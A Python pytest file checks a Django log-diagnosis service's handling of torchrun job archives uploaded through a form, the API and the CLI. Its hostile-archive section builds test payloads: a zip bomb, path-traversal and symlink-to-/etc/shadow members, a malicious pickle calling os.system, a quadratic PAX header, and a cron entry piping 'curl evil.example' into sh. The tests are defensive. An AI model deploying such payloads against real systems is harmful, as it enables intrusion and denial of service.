"""A whole job uploaded in the browser form or to the API (a torchrun log dir as .tar.gz or .zip, or several
files at once) is read by diagnosis.job_files like the command line reads it; hostile archives are refused with a
message, in bounded time, leaving nothing in the temp dir; page, API and CLI give the same answer."""

from __future__ import annotations

import gzip
import html
import io
import random
import re
import tarfile
import tempfile
import time
import zipfile
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from tests.kb.diagnose_cli import diagnose_json
from tests.kb.html_checks import assert_valid_html
from tests.kb.job_fixtures import RUN, tar_gz, torchrun_job, zip_bytes

pytestmark = pytest.mark.django_db
TOP_CASE = "rank0-long-preprocessing-barrier-timeout"


def upload(name: str, data: bytes) -> SimpleUploadedFile:
    return SimpleUploadedFile(name, data, content_type="application/octet-stream")


def answer_box(page: str) -> str:
    start = page.find('id="answer"')
    return page[start : page.find("</section>", start)]


def answer_slug(page: str) -> str:
    return re.search(r'<h2 id="answer-h"><a href="/kb/([a-z0-9-]+)/"', answer_box(page)).group(1)


def where_summary(page: str) -> str:
    return html.unescape(re.search(r'<p class="where-summary">([^<]*)</p>', page).group(1))


def test_a_job_tarball_posted_in_the_form_names_the_silent_rank_and_the_top_case(client):
    response = client.post("/diagnose", {"file": upload("job-71.tar.gz", tar_gz(torchrun_job(silent=0)))})
    page = response.content.decode()
    assert response.status_code == 200
    assert_valid_html(response.content)
    assert answer_slug(page) == TOP_CASE
    assert where_summary(page) == "3 ranks in ALLREDUCE #1 (timed out) · rank 0: printed output, but no timeout line"


def test_the_answer_box_says_where_the_ranks_are_when_one_is_not_with_the_others(client):
    """The odd rank belongs on the first screen, beside the cause, not only in the section further down."""
    response = client.post("/diagnose", {"file": upload("job-71.tar.gz", tar_gz(torchrun_job(silent=2)))})
    box = answer_box(response.content.decode())
    assert 'href="#where"' in box
    box = html.unescape(re.sub(r"<[^>]+>", "", box))
    assert "Where the ranks are: 3 ranks in ALLREDUCE #1 (timed out) · rank 2: printed output, but no timeout line" in box


def test_the_answer_box_has_no_where_line_when_every_rank_is_in_one_place(client):
    response = client.post("/diagnose", {"file": upload("job-71.tar.gz", tar_gz(torchrun_job(silent=99)))})
    page = response.content.decode()
    assert 'id="where"' in page and "Where the ranks are" not in answer_box(page)


def test_a_job_tarball_uploaded_to_the_api_names_the_silent_rank_and_the_top_case(client):
    result = client.post("/api/diagnose", {"file": upload("job-71.tar.gz", tar_gz(torchrun_job(silent=0)))}).json()
    assert result["matches"][0]["slug"] == TOP_CASE
    assert result["ranks"]["silent"] == [0] and result["rank_groups"]["silent"] == [0]


def test_a_job_tarball_sent_as_the_raw_api_body_is_read_as_a_job(client):
    result = client.post("/api/diagnose", data=tar_gz(torchrun_job(silent=0)), content_type="application/octet-stream").json()
    assert result["matches"][0]["slug"] == TOP_CASE and result["rank_groups"]["silent"] == [0]


def test_a_zip_whose_highest_rank_printed_nothing_lists_it_as_no_output(client):
    result = client.post("/api/diagnose", {"file": upload("job.zip", zip_bytes(torchrun_job(silent=3, mute=True)))}).json()
    assert result["ranks"]["silent"] == [3]
    assert result["rank_groups"]["groups"][-1]["text"] == "rank 3: no output"


def test_several_files_chosen_at_once_take_their_ranks_from_their_names(client):
    files = torchrun_job(silent=0)
    uploads = [upload(f"rank{r}.log", files[f"{RUN}/{r}/stdout.log"] + files[f"{RUN}/{r}/stderr.log"]) for r in range(4)]
    result = client.post("/api/diagnose", {"file": uploads}).json()
    assert result["matches"][0]["slug"] == TOP_CASE
    assert [g["label"] for g in result["rank_groups"]["groups"]] == ["ranks 1–3", "rank 0"]


def test_the_silent_rank_group_links_to_the_fix_step_its_evidence_supports(client):
    result = client.post("/api/diagnose", {"file": upload("job.tar.gz", tar_gz(torchrun_job(silent=0)))}).json()
    silent = next(g for g in result["rank_groups"]["groups"] if g["ranks"] == [0])
    assert silent["fix_url"] == f"/kb/{TOP_CASE}/#fix-1"
    assert client.get(silent["url"]).status_code == 200


def test_page_api_and_cli_give_the_same_answer_for_one_job_tarball(client, tmp_path):
    archive = tmp_path / "job-71.tar.gz"
    archive.write_bytes(tar_gz(torchrun_job(silent=0)))
    from_cli = diagnose_json(str(archive))
    from_api = client.post("/api/diagnose", {"file": upload(archive.name, archive.read_bytes())}).json()
    page = client.post("/diagnose", {"file": upload(archive.name, archive.read_bytes())}).content.decode()

    def answer(result: dict) -> tuple:
        return (
            [(m["slug"], m["confidence"], m["fix_step"]) for m in result["matches"]],
            result["facts"],
            result["ranks"],
            result["rank_groups"],
        )

    assert answer(from_cli) == answer(from_api)
    assert answer_slug(page) == from_cli["matches"][0]["slug"]
    assert where_summary(page) == from_cli["rank_groups"]["summary"]
    for group in from_cli["rank_groups"]["groups"]:
        assert f'href="{group["fix_url"]}"' in page


def test_cli_text_output_lists_where_every_rank_is(tmp_path):
    from io import StringIO
    from django.core.management import call_command

    archive = tmp_path / "job.tar.gz"
    archive.write_bytes(tar_gz(torchrun_job(silent=0)))
    out = StringIO()
    call_command("diagnose", str(archive), stdout=out)
    assert (
        "Where is every rank: 3 ranks in ALLREDUCE #1 (timed out) · rank 0: printed output, but no timeout line" in out.getvalue()
    )


# ---- hostile archives, through the page and the API -------------------------------------------------


def _tar(add) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
        add(archive)
    return buffer.getvalue()


def _member(archive: tarfile.TarFile, name: str, data: bytes = b"x\n", kind: bytes = tarfile.REGTYPE, link: str = "") -> None:
    info = tarfile.TarInfo(name)
    info.type, info.linkname, info.size = kind, link, len(data) if kind == tarfile.REGTYPE else 0
    archive.addfile(info, io.BytesIO(data) if kind == tarfile.REGTYPE else None)


def zip_bomb() -> bytes:
    """Five members of 64 MiB of zeros: 320 MiB uncompressed in about 300 KB, over the 200 MB job limit."""
    buffer = io.BytesIO()
    zeros = b"\x00" * (64 * 1024 * 1024)
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for rank in range(5):
            archive.writestr(f"{RUN}/{rank}/stderr.log", zeros)
    return buffer.getvalue()


def absolute_path_zip() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("/etc/cron.d/evil", "* * * * * root curl evil.example | sh\n")
    return buffer.getvalue()


def pax_header_of_digits(digits: int = 65536) -> bytes:
    """A .tar.gz whose PAX header is a run of digits: CPython 3.11.7's tarfile searches it in quadratic time."""
    pax = tarfile.TarInfo("././@PaxHeader")
    pax.type, pax.size = tarfile.XHDTYPE, digits
    log = tarfile.TarInfo(f"{RUN}/0/stderr.log")
    log.size = 6
    blocks = pax.tobuf(format=tarfile.USTAR_FORMAT) + b"9" * digits + b"\0" * (-digits % 512)
    blocks += log.tobuf(format=tarfile.USTAR_FORMAT) + b"hello\n" + b"\0" * (506 + 1024)
    return gzip.compress(blocks)


def gzip_magic_then_bad_data() -> bytes:
    return b"\x1f\x8b\x08\x00" + random.Random(2).randbytes(5000)


# A protocol-2 pickle named like a Flight Recorder dump whose load would call os.system("id").
OS_PICKLE = b"\x80\x02cos\nsystem\nq\x00X\x02\x00\x00\x00idq\x01\x85q\x02Rq\x03."

HOSTILE = {
    "zip-bomb": (zip_bomb, 413, "limit of 200 MB"),
    "dotdot-path": (lambda: _tar(lambda a: _member(a, "logs/../../home/user/.bashrc")), 400, "leaves the archive"),
    "absolute-path": (absolute_path_zip, 400, "absolute path"),
    "symlink": (
        lambda: _tar(lambda a: _member(a, f"{RUN}/0/stderr.log", kind=tarfile.SYMTYPE, link="/etc/shadow")),
        400,
        "link member",
    ),
    "ten-thousand-tiny-files": (
        lambda: _tar(lambda a: [_member(a, f"logs/r{n}.log") for n in range(10_000)]),
        400,
        "more than 5000 files",
    ),
    "pickle-importing-os": (
        lambda: _tar(lambda a: (_member(a, f"{RUN}/1/stderr.log", b"ok\n"), _member(a, "fr/nccl_trace_rank_0", OS_PICKLE))),
        400,
        "asks to import os.system",
    ),
    "pax-header-of-64k-digits": (pax_header_of_digits, 400, "PAX header of 65536 bytes"),
    "gzip-magic-then-bad-data": (gzip_magic_then_bad_data, 400, "is damaged"),
}


@pytest.fixture(scope="module")
def hostile_archives() -> dict[str, bytes]:
    return {name: build() for name, (build, _, _) in HOSTILE.items()}


@pytest.fixture
def temp_dir(tmp_path, monkeypatch, settings) -> Path:
    """A temp dir of the test's own (others share /tmp); every upload is written to it, as big ones are."""
    folder = tmp_path / "tmp"
    folder.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(folder))
    settings.FILE_UPLOAD_MAX_MEMORY_SIZE = 0
    return folder


@pytest.mark.parametrize("name", list(HOSTILE))
def test_a_hostile_archive_posted_in_the_form_is_refused_with_a_message(client, temp_dir, hostile_archives, name):
    _, status, message = HOSTILE[name]
    started = time.perf_counter()
    response = client.post("/diagnose", {"file": upload(f"{name}.tar.gz", hostile_archives[name])})
    assert time.perf_counter() - started < 10
    assert response.status_code == status
    assert message in html.unescape(response.content.decode())
    assert_valid_html(response.content)
    assert list(temp_dir.iterdir()) == []


@pytest.mark.parametrize("name", list(HOSTILE))
def test_a_hostile_archive_sent_to_the_api_is_refused_with_a_message(client, temp_dir, hostile_archives, name):
    _, status, message = HOSTILE[name]
    started = time.perf_counter()
    response = client.post("/api/diagnose", {"file": upload(f"{name}.tar.gz", hostile_archives[name])})
    assert time.perf_counter() - started < 10
    assert response.status_code == status and message in response.json()["error"]
    assert list(temp_dir.iterdir()) == []


@pytest.mark.parametrize("name", ["pax-header-of-64k-digits", "gzip-magic-then-bad-data"])
def test_a_hostile_archive_sent_as_a_raw_text_body_is_refused_with_a_message(client, hostile_archives, name):
    """`text/plain` is a CORS simple request: any page could make a browser send it, so it is measured the same."""
    _, status, message = HOSTILE[name]
    response = client.post("/api/diagnose", hostile_archives[name], content_type="text/plain")
    assert response.status_code == status and message in response.json()["error"]


def test_a_hostile_archive_in_the_htmx_form_gets_the_error_fragment(client, hostile_archives):
    response = client.post("/diagnose", {"file": upload("evil.tar.gz", hostile_archives["symlink"])}, HTTP_HX_REQUEST="true")
    page = response.content.decode()
    assert response.status_code == 400 and "<html" not in page and 'role="alert"' in page and "link member" in page


def test_an_upload_over_the_size_limit_names_the_limit(client, settings):
    settings.KB_MAX_LOG_BYTES = 4096
    response = client.post("/api/diagnose", {"file": upload("job.tar.gz", b"\x1f\x8b" + b"\x00" * 8000)})
    assert response.status_code == 413 and "4096 bytes" in response.json()["error"]


def _folder_form(files: dict[str, bytes], paths: list[str] | None = None) -> dict:
    """What the page's folder picker sends: bare-named files, and each file's path in `folder_path`."""
    names = list(files)
    return {
        "folder": [upload(name.rsplit("/", 1)[-1], files[name]) for name in names],
        "folder_path": names if paths is None else paths,
    }


def test_a_chosen_folder_keeps_the_sub_folders_that_name_each_rank(client):
    response = client.post("/diagnose", _folder_form(torchrun_job(silent=0)))
    assert response.status_code == 200
    assert (
        where_summary(response.content.decode())
        == "3 ranks in ALLREDUCE #1 (timed out) · rank 0: printed output, but no timeout line"
    )


def test_a_folder_path_that_leaves_the_folder_is_refused_with_a_message(client):
    files = {"logs/0/stdout.log": b"[rank0]: step 1\n"}
    response = client.post("/api/diagnose", _folder_form(files, ["../../etc/stdout.log"]))
    assert response.status_code == 400 and "path leaves the folder" in response.json()["error"]


def test_folder_paths_that_do_not_match_the_files_are_ignored_not_trusted(client):
    """Paths whose last part is not the file's own name (a stale field, a hand-made form) fall back to names."""
    files = torchrun_job(silent=0)
    result = client.post("/api/diagnose", _folder_form(files, [f"x/{i}/other.log" for i in range(len(files))])).json()
    assert result["matches"][0]["slug"] == TOP_CASE
    assert result["rank_groups"]["summary"] == "3 ranks in ALLREDUCE #1 (timed out) · rank 0: no timeout line"


def test_a_64_rank_log_folder_of_129_files_is_accepted(client):
    """Django's default of 100 files per request refused a 64-rank torchrun --log-dir."""
    files = {
        f"{RUN}/{rank}/{name}": f"[rank{rank}]: step 1\n".encode() for rank in range(64) for name in ("stdout.log", "stderr.log")
    }
    files[f"{RUN}/error.json"] = b"{}"
    response = client.post("/api/diagnose", _folder_form(files))
    assert response.status_code == 200, response.content[:300]


def test_more_files_than_the_request_limit_are_refused_with_a_message(client, settings):
    settings.DATA_UPLOAD_MAX_NUMBER_FILES = 10
    uploads = [upload(f"rank{r}.log", b"[rank0]: step 1\n") for r in range(11)]
    response = client.post("/diagnose", {"file": uploads})
    assert response.status_code == 400 and "more than 10 files" in html.unescape(response.content.decode())
